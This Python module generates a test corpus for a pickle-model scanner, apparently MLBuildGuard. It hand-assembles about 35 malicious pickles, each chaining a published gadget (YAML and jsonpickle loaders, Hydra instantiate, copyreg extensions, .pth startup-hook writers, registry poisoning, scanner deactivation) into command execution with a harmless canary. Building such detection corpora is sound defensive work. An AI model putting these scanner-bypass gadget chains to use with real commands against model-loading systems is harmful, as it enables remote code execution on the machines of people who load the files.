"""Corpus cases for the gadget families of the MLG301 catalogue (src/MlBuildGuard.Core/Models/Pickle/Catalogue).

Called by generate.py, which passes its own module so these cases reuse its opcode assembler and emitter. One file per
published gadget family beyond the classic ones in pickle-malicious/: callback runners, helpers that eval/exec
generated source, process helpers under compatibility or third-party names, YAML/JSON loaders that build objects,
mapping wrappers, the copyreg extension registry, Hydra-style instantiate, pandas loaders, PyTorch utilities, startup
hook writers, registries poisoned through SETITEM and scanner deactivation. Each `why` names the published source.

Same rules as the rest of the corpus: bytes are written by hand and never loaded; commands are the harmless canary,
hosts are 127.0.0.1 or *.invalid, paths do not exist.
"""

MISSING = "/nonexistent/mlbuildguard-corpus"


def generate(g):
    """g: the generate module (emit, opcode constants and helpers)."""
    canary = g.CANARY
    code = "import os; os.system('%s')" % canary
    expr = "__import__('os').system('%s')" % canary
    sg, u, call, tup, lst, p2, p4 = g.SG, g.U, g.CALL, g.TUP, g.LST, g.p2, g.p4

    def m(name, body, why, expect=g.MLG301):
        g.emit("pickle-gadgets/" + name, body, expect, why)

    def dict_of(*pairs):
        return g.EMPTY_DICT + g.MARK + b"".join(k + v for k, v in pairs) + g.SETITEMS

    def missing_path(leaf):
        return call(sg("pathlib", "PosixPath"), u(MISSING + "/" + leaf))

    # Callback runners: a clean-looking builtin forces a stored callable to run.
    m("itertools_starmap_forced_by_tuple.pkl", p4(call(
        sg("builtins", "tuple"),
        call(sg("itertools", "starmap"), sg("pathlib", "Path.touch"), lst(tup(missing_path("starmap")))))),
      "tuple(itertools.starmap(pathlib.Path.touch, [(PosixPath(...),)])): a lazy callback runner forced by tuple() "
      "(ModelAudit picklescan-rce-bypass-game Turn 17)")
    m("weakref_finalize_callback.pkl", p4(call(
        sg("weakref", "finalize"), call(sg("collections", "UserList")), sg("pathlib", "Path.touch"),
        missing_path("finalize"))),
      "weakref.finalize(UserList(), Path.touch, path): the callback fires as soon as the temporary object is freed, "
      "inside pickle.loads (ModelAudit bypass game Turn 33)")

    # Helpers that eval/exec generated source.
    m("typing_eval_type_forwardref.pkl", p4(call(
        sg("typing", "_eval_type"), call(sg("typing", "ForwardRef"), u(expr + " or int")), g.EMPTY_DICT, g.NONE)),
      "typing._eval_type(ForwardRef(expr), {}, None) evaluates the annotation string (ModelAudit bypass game Turn 7)")
    m("dataclasses_create_fn.pkl", p4(call(
        sg("dataclasses", "_create_fn"), u("x"), lst(u("a=" + expr)), lst(u("return 0")))),
      "dataclasses._create_fn builds function source from its arguments and exec()s it; the default value runs "
      "(ModelAudit bypass game Turn 9)")
    m("string_formatter_get_field.pkl", p4(call(
        sg("string", "Formatter.get_field"), call(sg("string", "Formatter")),
        u("0.__globals__[__builtins__][eval]"), tup(sg("statistics", "mean")), g.EMPTY_DICT)),
      "string.Formatter.get_field walks a format field through __globals__ to builtins eval "
      "(ModelAudit bypass game Turn 147)")
    m("unittest_mock_get_target_resolver.pkl", p4(call(sg("unittest.mock", "_get_target"), u("builtins:eval.x"))),
      "unittest.mock._get_target returns partial(pkgutil.resolve_name, 'builtins:eval') (ModelAudit bypass game "
      "Turn 149)")

    # Process helpers under compatibility or third-party names.
    m("six_moves_getoutput.pkl", p4(call(sg("six.moves", "getoutput"), u(canary))),
      "six.moves.getoutput is subprocess.getoutput under a compatibility name (ModelAudit bypass game Turn 177)")
    m("setuptools_distutils_spawn.pkl", p4(call(
        sg("setuptools._distutils.spawn", "spawn"), lst(u("/bin/echo"), u("mlbuildguard-corpus-canary")))),
      "setuptools._distutils.spawn.spawn runs a command list (ModelAudit bypass game Turn 3)")
    m("mlflow_run_entry_point.pkl", p4(call(
        sg("mlflow.projects.backend.local", "_run_entry_point"), u(canary), u("."), u(""), u(""))),
      "mlflow.projects.backend.local._run_entry_point runs a shell command (modelscan#338)")
    m("pytest_localpath_sysexec.pkl", p4(call(
        sg("_pytest._py.path", "LocalPath.sysexec"), call(sg("_pytest._py.path", "LocalPath"), u("/bin/echo")),
        u("mlbuildguard-corpus-canary"))),
      "_pytest._py.path.LocalPath.sysexec starts the path as a process (ModelAudit bypass game Turn 171)")
    m("dotenv_run_command.pkl", p4(call(
        sg("dotenv.cli", "run_command"), lst(u("/bin/echo"), u("mlbuildguard-corpus-canary")), g.EMPTY_DICT)),
      "dotenv.cli.run_command execs a command (ModelAudit bypass game Turn 131)")
    m("tkinter_tcl_exec.pkl", p4(call(
        sg("_tkinter", "TkappType.eval"), call(sg("_tkinter", "create")), u("exec " + canary))),
      "_tkinter.TkappType.eval runs a Tcl script whose exec starts a process (ModelAudit bypass game Turn 119)")
    m("mailcap_findmatch_test_command.pkl", p4(call(
        sg("mailcap", "findmatch"),
        dict_of((u("text/plain"), lst(dict_of((u("view"), u("cat %s")), (u("test"), u(canary)))))),
        u("text/plain"), u("view"), u(MISSING), g.EMPTY_LIST)),
      "mailcap.findmatch runs the entry's test command with os.system (ModelAudit bypass game Turn 1; picklescan#69)")
    m("pyrepl_pipe_pager.pkl", p4(call(sg("_pyrepl.pager", "pipe_pager"), u("text"), u(canary))),
      "_pyrepl.pager.pipe_pager runs the pager command (GHSA-g38g-8gr9-h9xp)")
    m("test_support_assert_python_ok.pkl", p4(call(
        sg("test.support.script_helper", "assert_python_ok"), u("-c"), u(code))),
      "test.support.script_helper.assert_python_ok runs a Python subprocess (GHSA-g38g-8gr9-h9xp)")

    # Loaders that build Python objects from another format.
    yaml_doc = "!!python/object/apply:os.system ['%s']" % canary
    m("yaml_unsafe_load.pkl", p4(call(sg("yaml", "unsafe_load"), u(yaml_doc))),
      "yaml.unsafe_load of a document whose tag calls os.system; the pickle names no dangerous global of its own "
      "(ModelAudit bypass game Turn 127; CVE-2017-18342)")
    m("yaml_load_with_loader.pkl", p4(call(sg("yaml", "load"), u(yaml_doc), sg("yaml", "Loader"))),
      "yaml.load(doc, yaml.Loader): the unsafe loader class chosen by the pickle (ModelAudit bypass game Turn 127)")
    m("jsonpickle_decode.pkl", p4(call(sg("jsonpickle", "decode"), u(
        '{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["%s"]}]}' % canary))),
      "jsonpickle.decode of a py/reduce document that calls os.system (CVE-2020-22083)")
    m("hydra_instantiate_target.pkl", p4(call(
        sg("hydra.utils", "instantiate"),
        dict_of((u("_target_"), u("posix.system")), (u("_args_"), lst(u(canary)))))),
      "hydra.utils.instantiate calls whatever _target_ names (CVE-2025-23304; hydra-ecosystem/hydra#3412)")
    m("pandas_read_pickle_url.pkl", p4(call(sg("pandas", "read_pickle"), u("http://127.0.0.1:9/mlbuildguard-corpus.pkl"))),
      "pandas.read_pickle of a URL loads a second pickle (modelscan#269; pandas-dev/pandas#67074)")
    m("pandas_read_csv_url.pkl", p4(call(
        sg("pandas.io.parsers.readers", "read_csv"), u("http://127.0.0.1:9/mlbuildguard-corpus.csv?canary"))),
      "pandas read_csv of a URL sends data out while loading (modelscan#338)")
    m("transformers_indirect_model_load.pkl", p4(call(
        sg("transformers.models.auto.tokenization_auto", "AutoTokenizer.from_pretrained"),
        u("mlbuildguard-corpus.invalid/model"))),
      "AutoTokenizer.from_pretrained downloads and loads another model while this one loads (modelscan#338, "
      "indirect model loading)")

    # PyTorch utilities.
    m("torch_collect_env_run.pkl", p4(call(sg("torch.utils.collect_env", "run"), u(canary))),
      "torch.utils.collect_env.run runs a shell command (GHSA-f745-w6jp-hpxx; modelscan#338)")
    m("torch_bottleneck_run_cprofile.pkl", p4(call(
        sg("torch.utils.bottleneck.__main__", "run_cprofile"), u(code), g.EMPTY_DICT)),
      "torch.utils.bottleneck.__main__.run_cprofile execs its code string (GHSA-4r9r-ch6f-vxmx)")
    m("torch_shapeenv_evaluate_guards.pkl", p4(call(
        sg("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"),
        g.EMPTY_DICT, u(expr), g.EMPTY_LIST)),
      "ShapeEnv.evaluate_guards_expression evals its expression (GHSA-f4x7-rfwp-v3xw)")

    # Startup-hook writers: a .pth line runs at the next interpreter start.
    m("numpy_savetxt_pth_hook.pkl", p4(call(
        sg("numpy", "savetxt"), u(MISSING + "/hook.pth"), lst(u(code)), u("%s"))),
      "numpy.savetxt writes an import line into a .pth startup hook (ModelAudit bypass game Turn 125)")
    m("argparse_filetype_opener.pkl", p4(call(call(sg("argparse", "FileType"), u("w")), u(MISSING + "/hook.pth"))),
      "argparse.FileType('w') called on a path opens it for writing (ModelAudit bypass game Turn 123)")

    # State and registries changed through BUILD/SETITEM, then used.
    m("scipy_rv_continuous_build_exec.pkl", p4(
        sg("scipy.stats._distn_infrastructure", "rv_continuous") + g.EMPTY_TUPLE + g.NEWOBJ
        + dict_of((u("_parse_arg_template"), u(code))) + g.BUILD),
      "NEWOBJ rv_continuous then BUILD: __setstate__ execs _parse_arg_template (ModelAudit bypass game Turn 191)")
    m("fsspec_registry_poisoning.pkl", p4(
        sg("fsspec.registry", "known_implementations") + u("mlbuildguard")
        + dict_of((u("class"), u("subprocess.Popen"))) + g.SETITEM + g.POP
        + call(sg("fsspec.implementations.cached", "WholeFileCacheFileSystem"), u("mlbuildguard"), u("TMP"),
               g.INT(10), g.NEWFALSE, g.INT(0), dict_of((u("args"), lst(u("/bin/echo"), u("mlbuildguard-corpus-canary")))))),
      "fsspec's protocol registry pointed at subprocess.Popen, then a caching filesystem imports and calls it "
      "(ModelAudit bypass game Turn 197)")
    m("pydantic_dynamic_imports.pkl", p4(
        sg("pydantic", "_dynamic_imports") + u("Popen") + tup(u("pydantic"), u("subprocess")) + g.SETITEM + g.POP
        + call(sg("pydantic", "Popen"), lst(u("/bin/echo"), u("mlbuildguard-corpus-canary")))),
      "pydantic._dynamic_imports['Popen'] = ('pydantic', 'subprocess'), then pydantic.Popen resolves through the "
      "module __getattr__ to subprocess.Popen (ModelAudit bypass game Turn 199)")
    m("chainmap_defaultdict_factory.pkl", p4(call(
        sg("operator", "getitem"),
        call(sg("collections", "ChainMap"),
             call(sg("collections", "defaultdict"), call(sg("functools", "partial"), sg("posix", "system"), u(canary)))),
        u("k"))),
      "a ChainMap hides a defaultdict whose factory runs on the missing key (modelaudit#1063, transparent mapping "
      "wrappers)")
    m("copyreg_add_extension_then_ext1.pkl", p2(
        call(g.GLOBAL("copyreg", "add_extension"), g.BU("posix"), g.BU("system"), g.INT(0x2A)) + g.POP
        + g.EXT1(0x2A) + tup(g.BU(canary)) + g.REDUCE),
      "copyreg.add_extension registers posix.system as code 42, then EXT1 42 imports it (ModelAudit picklescan "
      "DANGEROUS_GLOBALS copyreg.add_extension; EXT opcodes)")

    # Name aliases and scanner deactivation.
    m("random_os_alias_system.pkl", p4(call(sg("random", "_os.system"), u(canary))),
      "random._os.system: the os module under random's private alias (ModelAudit bypass game Turn 203)")
    m("scanner_deactivation.pkl", p4(call(sg("fickling.hook", "deactivate_safe_ml_environment")) + g.POP + g.EMPTY_DICT),
      "a call that switches off a model scanner's loader hooks (fickling ScannerDeactivation analysis)")
